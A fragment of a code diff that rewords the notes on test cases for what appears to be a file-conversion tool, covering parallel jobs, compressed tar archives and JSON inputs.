+        Case(f"jobs-{name}", build, JOBS_COMMANDS, notes="one way to run work in parallel: -j 2")
         for name, build in {
             "control-characters": _file("a.hxl", control_characters),
             "many-siblings": _file("a.hxl", many_siblings),
@@ -1347,10 +1492,15 @@ CASES: list[Case] = [
             "mutated-archives": mutated_archives,
         }.items()
     ),
-    Case("tar-bz2", compressed_tar("w:bz2", "a.tar.bz2"), notes="issue 23: compressed inputs"),
-    Case("tar-xz", compressed_tar("w:xz", "a.tar.xz"), notes="issue 23: compressed inputs"),
+    Case("tar-bz2", compressed_tar("w:bz2", "a.tar.bz2"), notes="compressed inputs"),
+    Case("tar-xz", compressed_tar("w:xz", "a.tar.xz"), notes="compressed inputs"),
 ] + [
-    Case(f"json-{name}", _file("a.json", content), tuple(JSON_COMMANDS), notes="item 12")
+    Case(
+        f"json-{name}",
+        _file("a.json", content),
+        tuple(JSON_COMMANDS),
+        notes="convert checks a JSON document before it reads it",
+    )
     for name, content in JSON_DOCUMENTS.items()
 ]
 
